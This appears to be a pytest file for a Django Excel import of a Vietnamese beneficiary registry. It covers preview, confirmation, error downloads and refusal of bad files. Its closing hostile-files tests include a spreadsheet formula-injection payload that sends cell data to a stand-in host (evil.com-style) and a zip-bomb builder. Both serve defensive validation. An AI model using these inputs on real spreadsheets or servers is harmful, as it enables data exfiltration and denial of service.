"""Excel import: upload, preview (nothing written), confirm (valid rows only, once),
refused rows as a workbook; refusal of other files."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from beneficiaries import imports
from beneficiaries.models import Beneficiary, ImportBatch
from reference.models import Commune, Province
from tests.beneficiaries.factories import (
    BeneficiaryFactory,
    commune_of,
    import_batch_in,
    valid_tax_code,
    workbook_bytes,
    wrong_check_digit,
)


def _upload(content: bytes, name="co-so.xlsx"):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


@pytest.fixture
def rows(world):
    """Four good rows and six bad ones, for an import into Sơn La."""
    existing = BeneficiaryFactory(name="Hợp tác xã Đã có", commune=commune_of(14))
    ward = Commune.objects.get(name="Phường Chiềng Cơi")
    commune = Commune.objects.get(name="Xã Tà Xùa")
    repeated = valid_tax_code()
    good = [
        {  # by commune code, numeric cells as Excel stores them
            "name": "Hợp tác xã Dệt thổ cẩm Bản Mòng",
            "legal_form": "HTX",
            "tax_code": valid_tax_code(),
            "commune_code": ward.code,
            "sector": "det-may-da-giay",
            "workers": 25,
            "woman_owned": "x",
            "ethnic_minority_owned": "x",
        },
        {  # by commune name without its prefix, legal form by its Vietnamese name
            "name": "Hộ kinh doanh Lò Thị Hoa",
            "legal_form": "Hộ kinh doanh",
            "citizen_id": "014190012345",
            "commune_name": "Tà Xùa",
            "sector": "Chế biến nông, lâm, thủy sản",
        },
        {
            "name": "Tổ hợp tác Chè Shan tuyết",
            "legal_form": "THT",
            "tax_code": repeated,
            "commune_name": commune.name,
            "sector": "nong-lam-thuy-san",
        },
        {  # a tax code typed into a number cell loses its leading zero
            "name": "Nghệ nhân Cầm Thị Ún",
            "legal_form": "NN",
            "tax_code": int("0100109106"),
            "commune_code": str(commune.code),
            "sector": "thu-cong-my-nghe",
        },
    ]
    bad = [
        {  # wrong check digit
            "name": "Công ty TNHH Sai số",
            "legal_form": "DN",
            "tax_code": wrong_check_digit(valid_tax_code()),
            "commune_code": ward.code,
            "sector": "co-khi",
        },
        {  # unknown commune
            "name": "Hợp tác xã Không có xã",
            "legal_form": "HTX",
            "tax_code": valid_tax_code(),
            "commune_name": "Xã Không Tồn Tại",
            "sector": "khac",
        },
        {  # already in the registry
            "name": "Hợp tác xã Đã có (lần hai)",
            "legal_form": "HTX",
            "tax_code": existing.tax_code,
            "commune_code": ward.code,
            "sector": "khac",
        },
        {  # repeats row 4 of the file
            "name": "Tổ hợp tác Chè Shan tuyết (trùng)",
            "legal_form": "THT",
            "tax_code": repeated,
            "commune_code": ward.code,
            "sector": "khac",
        },
        {  # the name is missing
            "legal_form": "HTX",
            "tax_code": valid_tax_code(),
            "commune_code": ward.code,
            "sector": "khac",
        },
        {  # a commune of Hà Nội
            "name": "Hợp tác xã Ngoài tỉnh",
            "legal_form": "HTX",
            "tax_code": valid_tax_code(),
            "commune_code": commune_of(1).code,
            "sector": "khac",
        },
    ]
    return {"good": good, "bad": bad, "existing": existing}


def _upload_rows(client, rows):
    content = workbook_bytes(rows["good"] + rows["bad"])
    response = client.post(reverse("beneficiary-import"), {"file": _upload(content)})
    assert response.status_code == 302, response.context["form"].errors
    return ImportBatch.objects.latest("created_at")


@pytest.mark.django_db
def test_preview_lists_every_row_and_writes_nothing(client, users, rows):
    client.force_login(users["sct-sonla"])
    before = Beneficiary.objects.count()
    batch = _upload_rows(client, rows)
    assert batch.province.code == 14 and batch.status == "preview"
    assert batch.row_count == 10 and batch.valid_count == 4
    assert batch.file.name.startswith("imports/")

    response = client.get(reverse("beneficiary-import-preview", args=[batch.pk]))
    assert response.status_code == 200
    assert Beneficiary.objects.count() == before
    shown = response.context["rows"]
    assert [r.number for r in shown] == list(range(2, 12))
    assert [r.ok for r in shown] == [True] * 4 + [False] * 6
    assert all(len(r.errors) >= 1 for r in shown[4:])
    # The duplicate row links to the record it repeats.
    duplicate = shown[6]
    url = reverse("beneficiary-detail", args=[rows["existing"].pk])
    assert duplicate.shown_errors[0]["url"] == url
    body = response.content.decode()
    assert body.count("✓") >= 4
    assert reverse("beneficiary-detail", args=[rows["existing"].pk]) in body


@pytest.mark.django_db
def test_each_error_is_explained(users, rows):
    from django.utils import translation

    parsed = imports.read_workbook(workbook_bytes(rows["good"] + rows["bad"]))
    with translation.override("en"):
        results = imports.validate_rows(
            parsed=parsed, actor=users["sct-sonla"], province=Province.objects.get(code=14)
        )
    messages = {r.number: " ".join(e.message for e in r.errors) for r in results if not r.ok}
    assert "check digit is wrong" in messages[6]
    assert "no commune or ward “Xã Không Tồn Tại”" in messages[7]
    assert "Already in the registry" in messages[8] and "Hợp tác xã Đã có" in messages[8]
    assert "Row 4 of this file" in messages[9]
    assert "Tên cơ sở" in messages[10] and "empty" in messages[10]
    assert "outside Sơn La" in messages[11] and "Thành phố Hà Nội" in messages[11]


@pytest.mark.django_db
def test_the_stored_errors_are_in_vietnamese_with_their_row_numbers(client, users, rows):
    """The check's result is kept with the batch (read once, at upload) in the language of
    the file format, whatever the uploader's interface language."""
    client.force_login(users["sct-sonla"])
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    batch = _upload_rows(client, rows)
    stored = {r.number: r for r in batch.rows.all()}
    assert sorted(stored) == list(range(2, 12))
    assert [stored[n].ok for n in range(2, 12)] == [True] * 4 + [False] * 6
    messages = {n: " ".join(e["message"] for e in r.errors) for n, r in stored.items()}
    assert "Chữ số kiểm tra của mã số thuế không đúng" in messages[6]
    assert "Không có xã, phường “Xã Không Tồn Tại” thuộc" in messages[7]
    assert "Trùng mã số thuế với dòng 4 trong tệp này." == messages[9]
    assert "Cột bắt buộc “Tên cơ sở (*)” đang để trống." in messages[10]
    duplicate = stored[8].errors[0]
    assert duplicate["record"] == rows["existing"].pk
    assert duplicate["record_province"] == rows["existing"].province_id
    # A valid row carries what the confirmation writes, the foreign keys as ids.
    first = stored[2].cleaned
    assert first["commune_id"] == Commune.objects.get(name="Phường Chiềng Cơi").pk
    assert first["province_id"] == Province.objects.get(code=14).pk
    assert first["workers"] == 25 and first["woman_owned"] is True
    assert stored[2].tax_code == first["tax_code"] and stored[3].citizen_id == "014190012345"


@pytest.mark.django_db
def test_confirm_writes_exactly_the_good_rows_once(client, users, rows):
    client.force_login(users["sct-sonla"])
    batch = _upload_rows(client, rows)
    before = Beneficiary.objects.count()
    response = client.post(reverse("beneficiary-import-confirm", args=[batch.pk]))
    assert response.status_code == 302
    assert Beneficiary.objects.count() == before + 4
    created = Beneficiary.objects.filter(name__in=[r["name"] for r in rows["good"]])
    assert created.count() == 4
    assert set(created.values_list("province__code", flat=True)) == {14}
    assert created.get(name="Nghệ nhân Cầm Thị Ún").tax_code == "0100109106"
    household = created.get(name="Hộ kinh doanh Lò Thị Hoa")
    assert household.citizen_id == "014190012345"
    assert created.get(name="Hợp tác xã Dệt thổ cẩm Bản Mòng").workers == 25
    assert all(b.created_by == users["sct-sonla"] for b in created)

    batch.refresh_from_db()
    assert batch.status == "confirmed" and batch.created_count == 4
    assert batch.refused_count == 6
    refused = batch.rows.filter(ok=False).order_by("number")
    assert [r.number for r in refused] == [6, 7, 8, 9, 10, 11]

    # A second click (or a replayed request) creates nothing more.
    again = client.post(reverse("beneficiary-import-confirm", args=[batch.pk]))
    assert again.status_code == 302
    assert Beneficiary.objects.count() == before + 4

    # The page now reports the outcome.
    page = client.get(reverse("beneficiary-import-preview", args=[batch.pk]))
    assert page.status_code == 200 and 'data-testid="import-result"' in page.content.decode()


@pytest.mark.django_db
def test_the_errors_download_holds_exactly_the_bad_rows(client, users, rows):
    client.force_login(users["sct-sonla"])
    batch = _upload_rows(client, rows)

    def download():
        response = client.get(reverse("beneficiary-import-errors", args=[batch.pk]))
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/vnd.openxmlformats")
        sheet = load_workbook(io.BytesIO(response.content)).active
        table = list(sheet.iter_rows(values_only=True))
        header, body = table[0], table[1:]
        assert "Lỗi" in header
        error_index = header.index("Lỗi")
        assert all(row[error_index] for row in body)
        return [row[header.index(imports.COLUMN_BY_KEY["name"].header)] for row in body]

    expected = [r.get("name") for r in rows["bad"]]
    assert download() == expected  # before confirmation
    client.post(reverse("beneficiary-import-confirm", args=[batch.pk]))
    assert download() == expected  # after: the same rows, not the ones just created


@pytest.mark.django_db
def test_the_refused_rows_can_be_corrected_and_uploaded_again(client, users, rows):
    client.force_login(users["sct-sonla"])
    batch = _upload_rows(client, rows)
    client.post(reverse("beneficiary-import-confirm", args=[batch.pk]))
    errors = client.get(reverse("beneficiary-import-errors", args=[batch.pk])).content
    response = client.post(
        reverse("beneficiary-import"), {"file": _upload(errors, "dong-loi.xlsx")}
    )
    assert response.status_code == 302  # the errors file is itself a valid template
    second = ImportBatch.objects.latest("created_at")
    assert second.row_count == 6 and second.valid_count == 0


@pytest.mark.django_db
def test_the_template_downloads_and_its_example_row_is_never_imported(client, users):
    client.force_login(users["sct-sonla"])
    response = client.get(reverse("beneficiary-import-template"))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    assert [c.value for c in sheet[1]] == [c.header for c in imports.COLUMNS]
    assert sheet["A1"].font.bold
    assert sheet[2][0].value.startswith(imports.EXAMPLE_PREFIX)
    catalogue = workbook.worksheets[1]
    codes = {row[0] for row in catalogue.iter_rows(values_only=True)}
    assert {"DN", "HTX", "LHHTX", "THT", "HKD", "NN"} <= codes
    # The template as downloaded (only the example row) has nothing to import.
    response = client.post(
        reverse("beneficiary-import"), {"file": _upload(response.content, "mau.xlsx")}
    )
    assert response.status_code == 200 and "file" in response.context["form"].errors


@pytest.mark.django_db
def test_the_example_row_of_the_template_is_itself_valid(client, users):
    """Take the example, rename it (so it is not skipped): it imports cleanly."""
    client.force_login(users["sct-sonla"])
    workbook = load_workbook(io.BytesIO(client.get(reverse("beneficiary-import-template")).content))
    sheet = workbook.worksheets[0]
    sheet["A2"] = "Hợp tác xã Dệt thổ cẩm Bản Mòng"
    buffer = io.BytesIO()
    workbook.save(buffer)
    client.post(reverse("beneficiary-import"), {"file": _upload(buffer.getvalue())})
    batch = ImportBatch.objects.latest("created_at")
    assert batch.row_count == 1 and batch.valid_count == 1


@pytest.mark.django_db
@pytest.mark.parametrize(
    "name,content,code",
    [
        ("co-so.csv", b"name,tax_code\nA,0100109106\n", "type"),
        ("co-so.xls", b"\xd0\xcf\x11\xe0 old excel", "type"),
        ("gia-mao.xlsx", b"this is not a workbook", None),
    ],
)
def test_other_files_are_refused(client, users, name, content, code):
    client.force_login(users["sct-sonla"])
    before = ImportBatch.objects.count()
    response = client.post(reverse("beneficiary-import"), {"file": _upload(content, name)})
    assert response.status_code == 200
    errors = response.context["form"].errors.as_data()["file"]
    if code:
        assert errors[0].code == code
    assert ImportBatch.objects.count() == before


@pytest.mark.django_db
def test_files_over_5_mb_are_refused(client, users):
    client.force_login(users["sct-sonla"])
    big = b"PK" + b"\0" * (5 * 1024 * 1024)
    response = client.post(reverse("beneficiary-import"), {"file": _upload(big, "lon.xlsx")})
    assert response.status_code == 200
    assert response.context["form"].errors.as_data()["file"][0].code == "size"
    assert not ImportBatch.objects.exists()


@pytest.mark.django_db
def test_a_file_without_the_headers_is_refused(client, users):
    client.force_login(users["sct-sonla"])
    content = workbook_bytes([{"name": "A"}], headers=["Cột 1", "Cột 2"])
    response = client.post(reverse("beneficiary-import"), {"file": _upload(content)})
    assert response.status_code == 200 and "file" in response.context["form"].errors
    assert not ImportBatch.objects.exists()


@pytest.mark.django_db
def test_at_most_max_rows(client, users, monkeypatch):
    monkeypatch.setattr(imports, "MAX_ROWS", 3)
    client.force_login(users["sct-sonla"])
    ok_rows = [{"name": f"Cơ sở {i}", "legal_form": "HTX", "sector": "khac"} for i in range(3)]
    response = client.post(
        reverse("beneficiary-import"), {"file": _upload(workbook_bytes(ok_rows))}
    )
    assert response.status_code == 302
    response = client.post(
        reverse("beneficiary-import"), {"file": _upload(workbook_bytes(ok_rows * 2))}
    )
    assert response.status_code == 200 and "file" in response.context["form"].errors


def test_the_real_limit_is_10000_rows_and_5_mb():
    assert imports.MAX_ROWS == 10_000
    assert imports.MAX_UPLOAD_BYTES == 5 * 1024 * 1024


@pytest.mark.django_db
def test_a_national_user_names_the_province_of_the_file(client, users, rows):
    client.force_login(users["admin"])
    content = workbook_bytes(rows["good"])
    response = client.post(reverse("beneficiary-import"), {"file": _upload(content)})
    assert response.status_code == 200 and "province" in response.context["form"].errors
    sonla = Province.objects.get(code=14)
    response = client.post(
        reverse("beneficiary-import"), {"file": _upload(content), "province": sonla.pk}
    )
    assert response.status_code == 302
    batch = ImportBatch.objects.latest("created_at")
    assert batch.province == sonla and batch.valid_count == 4


@pytest.mark.django_db
def test_another_provinces_batch_is_404(client, users):
    batch = import_batch_in(Province.objects.get(code=14))
    client.force_login(users["sct-hanoi"])
    for name in ("beneficiary-import-preview", "beneficiary-import-errors"):
        assert client.get(reverse(name, args=[batch.pk])).status_code == 404
    assert client.post(reverse("beneficiary-import-confirm", args=[batch.pk])).status_code == 404
    batch.refresh_from_db()
    assert batch.status == "preview"
    client.force_login(users["sct-sonla"])
    assert client.get(reverse("beneficiary-import-preview", args=[batch.pk])).status_code == 200
    assert client.get(reverse("beneficiary-import-confirm", args=[batch.pk])).status_code == 405


@pytest.mark.django_db
def test_preview_queries_do_not_grow_with_rows(client, users, django_assert_max_num_queries):
    province = Province.objects.get(code=14)
    commune = commune_of(14)
    client.force_login(users["sct-sonla"])

    def batch_of(n):
        content = workbook_bytes(
            [
                {
                    "name": f"Cơ sở {i}",
                    "legal_form": "HTX",
                    "tax_code": valid_tax_code(),
                    "commune_code": commune.code,
                    "sector": "khac",
                }
                for i in range(n)
            ]
        )
        client.post(reverse("beneficiary-import"), {"file": _upload(content)})
        return ImportBatch.objects.filter(province=province).latest("created_at")

    small, large = batch_of(3), batch_of(120)
    with django_assert_max_num_queries(12) as few:
        client.get(reverse("beneficiary-import-preview", args=[small.pk]))
    with django_assert_max_num_queries(12) as many:
        client.get(reverse("beneficiary-import-preview", args=[large.pk]))
    assert len(many.captured_queries) == len(few.captured_queries)


@pytest.mark.django_db
def test_a_repeated_identifier_is_flagged_even_if_the_first_row_is_refused(users):
    from beneficiaries.imports import read_workbook, validate_rows

    code = valid_tax_code()
    base = {"legal_form": "HTX", "tax_code": code, "sector": "khac"}
    parsed = read_workbook(
        workbook_bytes(
            [
                {**base, "name": "Hàng một", "commune_name": "Xã Không Có"},
                {**base, "name": "Hàng hai", "commune_name": "Xã Tà Xùa"},
            ]
        )
    )
    first, second = validate_rows(
        parsed=parsed, actor=users["sct-sonla"], province=Province.objects.get(code=14)
    )
    assert not first.ok and not second.ok
    assert second.cleaned is None and len(second.errors) == 1


# --- Hostile files ---------------------------------------------------------------------------


def _as_text_cells(content: bytes) -> bytes:
    """The file with every cell a string cell, as Excel saves a value typed after a quote
    ('=1+1): openpyxl would otherwise have written a text beginning with "=" as a formula."""
    workbook = load_workbook(io.BytesIO(content))
    for row in workbook.active.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.django_db
def test_formula_like_cells_are_refused_or_flagged(users):
    base = {"legal_form": "HTX", "sector": "khac", "commune_name": "Xã Tà Xùa"}
    parsed = imports.read_workbook(
        _as_text_cells(
            workbook_bytes(
                [
                    {**row, "tax_code": valid_tax_code()}
                    for row in [
                        {**base, "name": '=HYPERLINK("http://evil.example/?x="&A3,"Xem")'},
                        {**base, "name": "Tổ hợp tác A", "address": "@SUM(A1:A9)"},
                        {**base, "name": "Tổ hợp tác B", "product_line": "- chè, - măng"},
                        {**base, "name": "Tổ hợp tác C", "phone": "+84912345678"},
                        {**base, "name": "Tổ hợp tác D"},
                    ]
                ]
            )
        )
    )
    equals, at, dash, phone, plain = imports.validate_rows(
        parsed=parsed, actor=users["sct-sonla"], province=Province.objects.get(code=14)
    )
    message = equals.errors[0].message
    assert not equals.ok and "“Tên cơ sở (*)”" in message and "“=”" in message
    message = at.errors[0].message
    assert not at.ok and "“Địa chỉ”" in message and "“@”" in message
    # "-" and "+" begin real text: imported, with a warning (not for a phone number).
    assert dash.ok and len(dash.warnings) == 1 and "Sản phẩm chính" in dash.warnings[0]
    assert not phone.warnings
    assert plain.ok and not plain.warnings and not plain.errors


@pytest.mark.django_db
def test_the_preview_shows_the_warning(client, users):
    client.force_login(users["sct-sonla"])
    row = {
        "name": "Tổ hợp tác B",
        "legal_form": "HTX",
        "sector": "khac",
        "commune_name": "Xã Tà Xùa",
        "tax_code": valid_tax_code(),
        "product_line": "- chè",
    }
    response = client.post(reverse("beneficiary-import"), {"file": _upload(workbook_bytes([row]))})
    assert response.status_code == 302
    body = client.get(response["Location"]).content.decode()
    assert 'data-testid="row-warnings"' in body and "“Sản phẩm chính” bắt đầu bằng “-”" in body


def _zip_bomb(*, unpacked: int, parts: int = 1) -> bytes:
    """A few hundred kB that inflate to ``unpacked`` bytes of sheet XML."""
    buffer = io.BytesIO()
    chunk = b"<row><c><v>0</v></c></row>" * 40_000  # about 1 MB
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            written = 0
            while written < unpacked:
                sheet.write(chunk)
                written += len(chunk)
        for index in range(parts - 1):
            archive.writestr(f"xl/media/image{index}.png", b"x")
    return buffer.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "bomb",
    [
        {"unpacked": imports.MAX_UNPACKED_BYTES + 1024 * 1024},
        {"unpacked": 1024, "parts": imports.MAX_PARTS + 1},
    ],
)
def test_a_zip_bomb_is_refused_before_it_is_unpacked(client, users, monkeypatch, bomb):
    content = _zip_bomb(**bomb)
    assert len(content) < imports.MAX_UPLOAD_BYTES  # it passes the upload size check

    def must_not_parse(*args, **kwargs):
        raise AssertionError("the workbook was parsed")

    monkeypatch.setattr(imports, "load_workbook", must_not_parse)
    client.force_login(users["sct-sonla"])
    response = client.post(reverse("beneficiary-import"), {"file": _upload(content)})
    assert response.status_code == 200
    assert "file" in response.context["form"].errors
    assert not ImportBatch.objects.exists()
    with pytest.raises(imports.TemplateError, match="60 MB"):
        imports.workbook_size_check(content)


def test_a_filled_template_passes_the_size_check():
    rows = [
        {"name": f"Cơ sở {i}", "legal_form": "HTX", "sector": "khac"}
        for i in range(imports.MAX_ROWS)
    ]
    imports.workbook_size_check(workbook_bytes(rows))
